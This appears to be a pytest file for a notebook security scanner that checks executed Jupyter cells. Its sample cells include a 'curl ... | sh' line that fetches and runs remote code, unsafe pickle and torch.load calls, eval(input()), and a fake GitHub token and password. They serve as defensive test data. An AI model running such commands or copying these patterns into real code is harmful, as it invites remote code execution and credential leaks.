"""The cell that ran, scanned in steps: the same findings as in a scan of all cells, and nothing long outside idle."""

from __future__ import annotations

import time
from dataclasses import replace
from pathlib import Path

import pytest
from kernel_session import started

from mlsec_nb.config import Config
from mlsec_nb.findings import Finding
from mlsec_nb.kernel.history import ExecutedCell
from mlsec_nb.kernel.ran_scan import Ran, RanScan, Reports
from mlsec_nb.kernel.session_scan import notebook_of, scan_cell, scanner_for
from mlsec_nb.notebook import Ignored, Text
from mlsec_nb.portions import result_of
from mlsec_nb.rules.pii_flow_frames import LIVE

TOKEN = "ghp_" + "q7ZrT4bWm9XcK2sLp8VdY3nHf6JgQeRtUoAb"
LIVE_COLUMNS = {"table": {"a": "EMAIL"}}
# (source, what it printed)
SESSION = [
    ("import pickle, torch\nimport pandas as pd", ""),
    ("x = 1", "1"),
    ("load = torch.load\nmodel = 'm.pt'", ""),
    ("load(model)\npickle.load(open(model, 'rb'))", ""),
    (f"headers = {{'token': '{TOKEN}'}}", ""),
    ("print(headers)", f"what it holds: {TOKEN}"),
    ("eval(input())", ""),
    ("table.to_csv('public/a.csv')", ""),
    ("x = 1\n!curl https://example.org/a.sh | sh", "x"),
    ("password = '" + "hunter2-Quietly'\nprint(1)", "ann.smith@" + "mail-of-hers.org"),
    ("def broken(:", ""),
    (f"again = '{TOKEN}'", ""),
    ("torch.load(model, weights_only=False)", ""),
]
SCANNER = scanner_for(Config(installed_versions=False))


def outputs(number: int) -> list[Text]:
    where = ("cells", number, "outputs", 0, "text")
    text = SESSION[number - 1][1]
    return [Text(text, "output", cell=number, output=0, where=where)] if text else []


def stepped(scan: RanScan, number: int, cells: list[ExecutedCell]) -> Reports:
    """What comes out of one cell's scan, when those before it have run."""
    return result_of(scan.scanning(Ran(cells[number - 1], cells[: number - 1], outputs(number), LIVE_COLUMNS)))


def in_order(findings: tuple[Finding, ...]) -> list[Finding]:
    """Without the fingerprint: it counts equal findings of all cells, and here there is one."""
    return [replace(finding, fingerprint="") for finding in findings]


def test_each_cell_has_the_findings_of_a_scan_of_all() -> None:
    cells = [ExecutedCell(number, source) for number, (source, _) in enumerate(SESSION, 1)]
    scan, rules = RanScan(SCANNER), set()
    for number in range(1, len(cells) + 1):
        whole = notebook_of(cells[:number], Ignored())
        whole.names.memo[LIVE] = LIVE_COLUMNS
        whole.texts += outputs(number)
        expected = SCANNER.scan(whole)
        shown, report = stepped(scan, number, cells)
        own = tuple(finding for finding in expected.findings if finding.cell == number)
        assert in_order(report.findings) == in_order(own), SESSION[number - 1]
        assert [e for e in expected.errors if e.cell == number] == list(report.errors)
        assert [finding.path for finding in shown.findings] == [f"In[{number}]"] * len(own)
        rules |= {finding.rule for finding in own}
    assert {"DES001", "DES010", "EXE001", "PII132", "SEC138"} <= rules


def test_a_cell_that_was_run_again_in_other_words_is_forgotten() -> None:
    cells = [ExecutedCell(number, source) for number, (source, _) in enumerate(SESSION, 1)]
    scan = RanScan(SCANNER)
    for number in range(1, len(cells) + 1):
        stepped(scan, number, cells)
    for gone in (1, 3, 5):
        left = [cell for cell in cells[:12] if cell.number != gone]
        asked = ExecutedCell(13, "load(model)\npickle.load(f)\nprint(headers)")
        expected = SCANNER.scan(notebook_of([*left, asked], Ignored()))
        steps = scan.scanning(Ran(asked, left, [], {}))
        _, report = result_of(steps)
        assert in_order(report.findings) == in_order(tuple(one for one in expected.findings if one.cell == 13)), gone


@pytest.mark.parametrize(
    "sources",
    [
        ["from pickle import load as unpacked", "unpacked(f)"],
        ["import torch\nopened = torch.load", "x = 1", "again = opened", "again('m.pt', weights_only=False)"],
    ],
)
@pytest.mark.parametrize("is_last_first", [False, True], ids=["in order", "last first"])
def test_a_cell_that_says_only_a_name_given_before(sources: list[str], is_last_first: bool) -> None:
    cells = [ExecutedCell(number, source) for number, source in enumerate(sources, 1)]
    expected = [(one.cell, one.rule) for one in SCANNER.scan(notebook_of(cells, Ignored())).findings]
    assert len(expected) == 1 and expected[0][0] == len(cells)
    scan, found = RanScan(SCANNER), []
    for cell in cells[:: -1 if is_last_first else 1]:
        _, report = result_of(scan.scanning(Ran(cell, [one for one in cells if one is not cell], [], {})))
        found += [(one.cell, one.rule) for one in report.findings]
    assert found == expected


@pytest.mark.parametrize("first", [1, 6, 12])
def test_a_watch_that_begins_late_knows_the_secrets_of_before(first: int) -> None:
    cells = [ExecutedCell(number, source) for number, (source, _) in enumerate(SESSION, 1)]
    scan = RanScan(SCANNER)
    found = {number: stepped(scan, number, cells)[1].findings for number in range(first, 13)}
    assert "SEC" in {finding.rule[:3] for finding in found[12]}
    assert TOKEN not in str(found) and TOKEN not in repr(scan._telling.values())


def test_a_library_is_loaded_when_the_kernel_is_idle(tmp_path: object) -> None:
    with started(tmp_path) as kernel:  # type: ignore[arg-type]
        kernel.run("%load_ext mlsec_nb\n%mlsec watch on --quiet --budget 5000")
        ran = kernel.run("import jinja2\nif 0:\n    jinja2.Environment(autoescape=False)")
        assert ran.plain == f"mlsec: In[{ran.count}]: still to be looked at"
        for _ in range(100):
            time.sleep(0.1)
            if found := [one["rule"] for one in kernel.refreshed().get("report", {}).get("findings", [])]:
                break
        assert found == ["B701"]
        second = kernel.run("if 0:\n    jinja2.Environment(autoescape=False, trim_blocks=True)")
        assert "1 high, B701" in second.plain


def test_a_working_folder_that_is_gone_costs_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "gone"
    folder.mkdir()
    monkeypatch.chdir(folder)
    folder.rmdir()
    cell = ExecutedCell(1, "import torch\ntorch.load('m.pt', weights_only=False)")
    assert [finding.rule for finding in scan_cell(cell, [], SCANNER).findings] == ["DES010"]
